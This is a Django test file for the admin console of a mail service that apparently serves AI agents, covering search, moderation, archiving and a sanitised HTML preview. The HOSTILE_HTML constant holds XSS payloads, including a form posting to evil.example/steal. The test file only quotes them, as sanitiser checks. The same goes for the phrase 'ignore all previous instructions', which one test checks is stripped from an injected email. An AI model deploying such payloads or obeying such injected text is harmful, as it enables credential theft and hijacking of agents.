"""The message console: search as the API's q, a sanitised preview, moderation actions
through the services, logged with the staff member."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

from django.contrib.admin.models import LogEntry
from django.test import Client

from directory.models import Agent
from mail.models import ArchiveJob, Message
from mail.sending import Outgoing, message_send
from tests.factories import MessageFactory
from tests.mime import build_mail
from webhooks.models import Event

HOSTILE_HTML = """<html><body><h1 id=t>Hello</h1>
<script>window.parent.document.title='pwned'</script>
<img src="http://127.0.0.1:9/tracker.png" onerror="alert(1)">
<form action="http://evil.example/steal"><input name=p></form>
<a href="javascript:alert(1)">click</a></body></html>"""


def test_search_uses_the_api_q_semantics(superuser_client: Client, owner: Any, deliver: Any) -> None:
    deliver(build_mail(to=owner.address, subject="Invoice 100% paid"), to=owner.address)
    deliver(build_mail(to=owner.address, subject="Other"), to=owner.address)

    body = superuser_client.get("/admin/mail/message/", {"q": "100%"}).content.decode()
    assert "Invoice 100% paid" in body
    assert ">Other<" not in body


def test_search_takes_the_api_q_grammar(superuser_client: Client, owner: Any, deliver: Any) -> None:
    deliver(
        build_mail(to=owner.address, subject="Signed", attachments=[("a.pdf", "application/pdf", b"%PDF")]),
        to=owner.address,
    )
    deliver(build_mail(to=owner.address, subject="Unsigned"), to=owner.address)

    body = superuser_client.get("/admin/mail/message/", {"q": "from:alice has:attachment"}).content.decode()
    assert ">Signed<" in body and ">Unsigned<" not in body
    # A malformed term lists nothing and says which term, as the API's 400 invalid_query.
    body = superuser_client.get("/admin/mail/message/", {"q": "larger:abc"}).content.decode()
    assert "larger:abc" in body and "not a valid search term" in body and ">Signed<" not in body


def test_the_html_preview_is_sanitised_and_served_with_a_strict_csp(
    superuser_client: Client, owner: Any, deliver: Any
) -> None:
    deliver(build_mail(to=owner.address, html=HOSTILE_HTML), to=owner.address)
    message = Message.objects.get()

    quoted = message.pk.replace("_", "_5F")  # as the admin's own links quote it
    page = superuser_client.get(f"/admin/mail/message/{quoted}/change/").content.decode()
    assert 'sandbox=""' in page and 'id="html-body"' in page and "Hi there" in page
    response = superuser_client.get(f"/admin/mail/message/{message.pk}/html/")
    html = response.content.decode()
    assert "<script" not in html and "onerror" not in html and "<form" not in html and "javascript:" not in html
    csp = response["Content-Security-Policy"]
    assert "img-src data:;" in csp and "sandbox" in csp and "default-src 'none'" in csp
    allowed = superuser_client.get(f"/admin/mail/message/{message.pk}/html/?remote=1")["Content-Security-Policy"]
    assert "https:" in allowed


def test_the_raw_mime_downloads_byte_for_byte(superuser_client: Client, owner: Any, deliver: Any) -> None:
    raw = build_mail(to=owner.address)
    deliver(raw, to=owner.address)
    message = Message.objects.get()

    response = superuser_client.get(f"/admin/mail/message/{message.pk}/raw/")
    assert b"".join(response.streaming_content) == raw


def test_releasing_a_held_message_puts_it_in_the_inbox_and_tells_the_agent(
    moderator_client: Client, owner: Any, deliver: Any, moderator: Any
) -> None:
    deliver(build_mail(to=owner.address), to=owner.address)
    message = Message.objects.get()
    Message.objects.filter(pk=message.pk).update(disposition="held")
    Event.objects.all().delete()

    response = moderator_client.post(
        "/admin/mail/moderationitem/", {"action": "release", "_selected_action": [message.pk]}
    )

    assert response.status_code == 302
    message.refresh_from_db()
    assert message.disposition == "inbox"
    assert Event.objects.get().type == "message.received"
    entry = LogEntry.objects.get()
    assert entry.user == moderator and "Released" in entry.change_message


def test_actions_label_read_and_archive_go_through_the_services(
    superuser_client: Client, owner: Any, deliver: Any
) -> None:
    deliver(build_mail(to=owner.address), to=owner.address)
    message = Message.objects.get()

    for action, extra in [("add_label", {"label": "needs-review"}), ("mark_read", {}), ("archive", {})]:
        superuser_client.post("/admin/mail/message/", {"action": action, "_selected_action": [message.pk], **extra})

    message.refresh_from_db()
    assert message.label_names == ["needs-review"]
    assert message.is_read and message.archived


def test_a_purge_needs_confirmation(superuser_client: Client, owner: Any) -> None:
    response = superuser_client.post(
        "/admin/mail/archivejob/add/", {"action": "purge", "agent": owner.agent.pk, "older_than_days": 30}
    )
    assert response.status_code == 200
    assert "confirm" in response.content.decode()
    assert not ArchiveJob.objects.exists()


def test_a_bulk_archive_job_archives_old_mail_of_one_agent(
    superuser_client: Client, owner: Any, teammate: Any, deliver: Any, django_capture_on_commit_callbacks: Any
) -> None:
    import datetime as dt

    from django.utils import timezone

    for persona in (owner, teammate):
        deliver(build_mail(to=persona.address), to=persona.address)
    deliver(build_mail(to=owner.address, subject="recent"), to=owner.address)
    Message.objects.exclude(subject="recent").update(received_at=timezone.now() - dt.timedelta(days=100))

    with django_capture_on_commit_callbacks(execute=True):
        superuser_client.post(
            "/admin/mail/archivejob/add/", {"action": "archive", "agent": owner.agent.pk, "older_than_days": 90}
        )

    job = ArchiveJob.objects.get()
    assert (job.state, job.total, job.done) == ("done", 1, 1)
    assert list(Message.objects.filter(archived=True).values_list("agent__agent_id", flat=True)) == ["owner"]
    assert superuser_client.get("/admin/mail/archivejob/").status_code == 200


def test_the_dashboard_shows_the_chart_and_queue(superuser_client: Client, owner: Any, deliver: Any) -> None:
    deliver(build_mail(to=owner.address), to=owner.address)
    body = superuser_client.get("/admin/").content.decode()
    assert 'id="mail-chart"' in body and "<rect" in body
    assert 'id="queue-size"' in body


def test_the_queue_shows_why_each_message_is_there_under_reason(
    moderator_client: Client, owner: Any, deliver: Any
) -> None:
    Agent.objects.filter(pk=owner.agent.pk).update(policy="verified_only")
    deliver(build_mail(to=owner.address, subject="From a stranger"), to=owner.address)
    MessageFactory(
        agent=owner.agent, disposition="quarantined", quarantine_reason="MIME structure too deeply nested to parse"
    )

    page = moderator_client.get("/admin/mail/moderationitem/").content.decode()

    assert Message.objects.get(subject="From a stranger").disposition == "held"
    assert re.search(r'<th[^>]*class="[^"]*column-reason[^"]*"[^>]*>.*?>Reason<', page, re.S)
    assert "Quarantine reason" not in page
    assert "sender is not verified for this agent" in page and "MIME structure too deeply nested to parse" in page


CONTENT = Path(__file__).parents[1] / "mail" / "testdata" / "content"


def test_the_message_page_shows_the_extracted_text_and_the_safety_flags(
    superuser_client: Client, owner: Any, deliver: Any
) -> None:
    deliver((CONTENT / "prompt-injection-white-text.eml").read_bytes(), to=owner.address)
    message = Message.objects.get()

    page = superuser_client.get(f"/admin/mail/message/{message.pk.replace('_', '_5F')}/change/").content.decode()
    html = superuser_client.get(f"/admin/mail/message/{message.pk}/html/").content.decode()

    extracted = re.search(r'<pre id="extracted-text"[^>]*>(.*?)</pre>', page, re.S)
    assert extracted and extracted.group(1) == "Dear customer, please find your March invoice attached."
    assert re.findall(r'<li class="safety-flag"><code>(\w+)</code>', page) == ["hidden_text", "instructions_to_model"]
    # The HTML staff see is the content service's: the white-on-white instruction is gone.
    assert "March invoice" in html and "ignore all previous instructions" not in html.lower()


def test_staff_download_an_attachment_of_a_message(superuser_client: Client, owner: Any, deliver: Any) -> None:
    deliver(build_mail(to=owner.address, attachments=[("notes.txt", "text/plain", b"the notes")]), to=owner.address)
    message = Message.objects.get()
    attachment = message.attachments.get()

    response = superuser_client.get(f"/admin/mail/message/{message.pk}/attachments/{attachment.pk}/")

    assert response.status_code == 200 and b"".join(response) == b"the notes"


def test_staff_find_outbound_mail_that_did_not_go_out_by_its_status(superuser_client: Client, owner: Any) -> None:
    subjects = {
        "Queued one": Message.Status.QUEUED,
        "Lost in handoff": Message.Status.FAILED,
        "Called off": Message.Status.CANCELED,
    }
    for subject, status in subjects.items():
        message = message_send(agent=owner.agent, outgoing=Outgoing(to=["bob@example.com"], subject=subject, body="b"))
        Message.objects.filter(pk=message.pk).update(status=status)

    body = superuser_client.get("/admin/mail/message/", {"status__exact": "failed"}).content.decode()
    assert ">Lost in handoff<" in body and ">Queued one<" not in body and ">Called off<" not in body
    assert "column-status" in body and "?status__exact=canceled" in body
